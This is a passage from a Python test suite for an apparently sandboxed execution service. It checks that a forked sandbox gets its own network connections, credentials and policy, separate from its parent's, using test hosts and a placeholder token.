    assert "Address: " + SINK not in out, out
    entries = net_log(a, sid)
    assert any(e["kind"] == "dns" and "CNAME chain" in e["reason"] for e in entries), entries
    assert any(e.get("name") == "alias.test" and e["kind"] == "tcp" and e["action"] == "deny" for e in entries), entries
    assert internet.sink_hits() == []


# A process in the guest that holds one kept-alive HTTP connection to
# a.test and, for each marker written to /tmp/cmd, sends a request for
# /echo?m=MARKER on it, writing the answer's status line (or the error) to
# /tmp/out-MARKER
HOLDER = r'''
import os, socket
s = socket.create_connection(("a.test", 80), timeout=10)
os.mkfifo("/tmp/cmd")
open("/tmp/holder-up", "w").close()
while True:
    with open("/tmp/cmd") as f:
        for m in f.read().split():
            try:
                s.sendall(f"GET /echo?m={m} HTTP/1.1\r\nHost: a.test\r\n\r\n".encode())
                data = s.recv(65536)
                out = data.split(b"\r\n")[0].decode() if data else "closed"
                if data:
                    while b'"headers"' in data and not data.rstrip().endswith(b"}}"):
                        data += s.recv(65536)
            except OSError as e:
                out = f"error {e}"
            with open(f"/tmp/out-{m}", "w") as o:
                o.write(out)
'''


def holder_send(a, sid, marker):
    """The holder's answer for marker (waited for: the file appears)."""
    _, out = sh(a, sid, f"echo {marker} > /tmp/cmd; for i in $(seq 100); do [ -e /tmp/out-{marker} ] && "
                        f"cat /tmp/out-{marker} && exit 0; sleep 0.1; done; echo no-answer")
    return out


@pytest.mark.cases(3)
def test_a_forked_child_has_its_own_connections_credentials_and_policy(airlock_factory, internet):
    """Fork copies the guest, not the gateway: a connection the parent held
    open through the gateway is the parent's alone (the child's copy of it
    is reset, and the origin never hears the child's request on it); a
    child forked without its parent's credentials gets none (the origin
    sees its placeholder), and the child's policy is its own (denying all
    in the child leaves the parent's as it was). The parent's connection,
    credential and policy are the control, before and after."""
    a = airlock_factory(prebuild="minimal,python", env=internet.env())
    a.api("POST", "/v1/secrets", {"name": "tok", "value": "ghp_forkvalue0123456789", "hosts": ["a.test"],
                                  "header": "Authorization: Bearer {value}"}, expect=201)
    parent = a.create(template="python", secrets=["tok"], network={"allow": [{"host": "a.test"}]})["id"]
    a.put_file(parent, "/root/holder.py", HOLDER.encode())
    sh(a, parent, "(python3 /root/holder.py > /tmp/holder.log 2>&1 &); "
                  "for i in $(seq 100); do [ -e /tmp/holder-up ] && exit 0; sleep 0.1; done; exit 1")
    assert holder_send(a, parent, "p1").startswith("HTTP/1.1 200"), a.exec(parent, ["cat", "/tmp/holder.log"])

    child = a.api("POST", f"/v1/sandboxes/{parent}/fork?wait=true", {})["result"]["sandbox"]["id"]
    # the child's copy of the connection: its request never reaches the origin
    out = holder_send(a, child, "c1")
    assert out.startswith(("error", "closed")), out  # it ran: the holder answered (a reset, measured)
    assert [h for h in internet.origin_hits() if "m=c1" in h["path"]] == [], internet.origin_hits()[-2:]
    # the parent's is still its own
    assert holder_send(a, parent, "p2").startswith("HTTP/1.1 200")
    assert len([h for h in internet.origin_hits() if h["path"].endswith("m=p2")]) == 1

    # credentials: the child was forked without them
    curl = 'curl -sS --max-time 10 -H "Authorization: Bearer $TOK" "https://a.test/echo?m={}"'
    sh(a, child, curl.format("child-cred"))
    sh(a, parent, curl.format("parent-cred"))
    got = {m: [h for h in internet.origin_hits() if h["path"].endswith(f"m={m}")] for m in ("child-cred", "parent-cred")}
    assert len(got["child-cred"]) == 1 and "ghp_forkvalue" not in json.dumps(got["child-cred"]), got
    assert len(got["parent-cred"]) == 1 and "ghp_forkvalue" in json.dumps(got["parent-cred"]), got

    # policy: the child's own
    a.api("PUT", f"/v1/sandboxes/{child}/network", {"mode": "deny-all"})
    _, out = sh(a, child, "curl -sS --max-time 10 http://a.test/hello.txt?m=child-denied; echo rc=$?")
    assert "rc=" in out and HELLO not in out, out  # it ran, and got nothing
    assert any(e["action"] == "deny" and e.get("name") == "a.test" for e in net_log(a, child)), net_log(a, child)
    assert [h for h in internet.origin_hits() if "m=child-denied" in h["path"]] == []
    _, out = sh(a, parent, "curl -sS --max-time 10 http://a.test/hello.txt")
    assert HELLO in out, out
    assert a.api("GET", f"/v1/sandboxes/{parent}/network")["allow"] == [{"host": "a.test", "ports": [80, 443]}]
